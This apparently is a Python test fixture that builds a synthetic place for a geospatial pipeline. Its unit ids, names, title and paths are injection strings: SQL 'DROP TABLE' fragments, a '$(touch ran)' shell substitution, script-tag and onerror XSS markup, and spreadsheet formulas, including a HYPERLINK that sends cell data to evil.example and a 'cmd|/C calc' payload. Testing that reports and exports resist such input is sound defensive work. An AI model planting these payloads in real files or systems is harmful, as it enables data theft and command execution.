"""A place whose names are attacks, on two small images: what a flow, its report and its exports make of them."""

import json
from pathlib import Path
from typing import Any

import numpy as np
import shapely
import yaml
from pyproj import Transformer

from tests.images_on_disk import ORIGIN, write
from tests.random_model import BANDS, write_random_model

WAREHOUSE = 'w\'; DROP TABLE units; -- `b` "q" $(touch ran) {a} é @!'
ID_COLUMN, NAME_COLUMN = "co`de'); --", 'na"me; DROP TABLE units'
YEARS = (2016, 2020)
SIDE = 600.0
"""Of a unit, metres; the images span four by three of them and a little more."""
MARKUP = "<script>alert('1')</script><img src=x onerror=alert(2)>\"&"
UNITS = {
    "'); --": (0, 0, f"a {MARKUP}"),
    "x; DROP TABLE units": (1, 0, '=HYPERLINK("http://evil.example/?"&A1,"open")'),
    "`units` WHERE 1=1": (2, 0, "+1+cmd|'/C calc'!A0"),
    "=1+1": (0, 1, "-2+3"),
    "@SUM(A1:A9)": (1, 1, "@SUM(1)"),
    "${spark.master}": (2, 1, 'a\nsecond line, "quoted"'),
    "dark": (3, 2, "no pixel of it is seen"),
    "empty": (0, 2, "nobody lives here"),
    "far": (40, 2, "beyond the images"),
}
"""Id to column, row and name of a square of ground."""
YOUNG, DARK, EMPTY, FAR = "=1+1", "dark", "empty", "far"
"""Not built at first; not seen; without people; beyond the images."""
PEOPLE = {name: (0 if name == "empty" else 1000 + 100 * number) for number, name in enumerate(UNITS)}
TO_DEGREES = Transformer.from_crs("EPSG:32725", "EPSG:4326", always_xy=True).transform


def square(column: int, row: int) -> Any:
    """Degrees."""
    west, north = ORIGIN[0] + column * SIDE, ORIGIN[1] - row * SIDE
    outline = shapely.segmentize(shapely.box(west, north - SIDE, west + SIDE, north), SIDE / 4)
    return shapely.transform(outline, TO_DEGREES, interleaved=False)


def image(year: int) -> Any:
    """DN (250, 250): ground that the network takes for land, in each unit a block that it takes for built-up; none in YOUNG at first."""
    pixels = np.random.default_rng(year).integers(480, 520, (250, 250)).astype(np.uint16)
    for unit, (column, row, _) in UNITS.items():
        left, top = column * 60, row * 60
        if unit != YOUNG or year > YEARS[0]:
            pixels[top + 10 : top + 40, left + 10 : left + 40 + 2 * (year - YEARS[0])] = 2_000
        if unit == DARK:
            pixels[max(top - 6, 0) : top + 66, max(left - 6, 0) : left + 66] = 0
    return pixels


def write_place(folder: Path, **changes: Any) -> Path:
    """The YAML file of the place; images, units and people beside it."""
    for year in YEARS:
        for band, size in zip(BANDS, (1, 1, 2), strict=True):
            write(folder / f"{year}_{band}.tif", image(year)[::size, ::size], pixel=10.0 * size)
    features = [
        {"type": "Feature", "properties": {ID_COLUMN: unit, NAME_COLUMN: name}, "geometry": shapely.geometry.mapping(square(column, row))}
        for unit, (column, row, name) in UNITS.items()
    ]
    (folder / "units.geojson").write_text(json.dumps({"type": "FeatureCollection", "features": features}), encoding="utf-8")
    people = [
        {"unit_id": unit, "year": year, "people": count + 10 * (year - 2016) * (count > 0)}
        for unit, count in PEOPLE.items()
        for year in YEARS
    ]
    features = [{"type": "Feature", "properties": row, "geometry": None} for row in people]
    (folder / "people.geojson").write_text(json.dumps({"type": "FeatureCollection", "features": features}), encoding="utf-8")
    model = write_random_model(folder / "random.safetensors")
    values = {
        "name": "hostile", "title": f"'); DROP TABLE {MARKUP}", "attribution": MARKUP,
        "warehouse": str(folder / WAREHOUSE), "grid": "native",
        "epochs": [{"name": str(y), "start": f"{y}-01-01", "end": f"{y}-12-31", "reference": f"{y}-07-01"} for y in YEARS],
        "layers": {"a": {"sensor": "sentinel2_l2a", "model": model, "resolution": 10.0, "feeds": "built_m2", "threshold": 0.45}},
        "tiles": {"tile_px": 256},
        "scenes": {"sources": [
            {"sensor": "sentinel2_l2a", "href": str(folder / f"{year}_{{band}}.tif"), "bands": list(BANDS), "nodata": 0,
             "scene_id": f"s{year} {MARKUP}", "datetime": f"{year}-06-01"} for year in YEARS
        ]},
        "units": {"path": str(folder / "units.geojson"), "id": ID_COLUMN, "name": NAME_COLUMN},
        "population": {"path": str(folder / "people.geojson"), "id": "unit_id", "people": "people", "year": "year"},
        **changes,
    }  # fmt: skip
    path = folder / "hostile.yaml"
    path.write_text(yaml.safe_dump(values), encoding="utf-8")
    return path
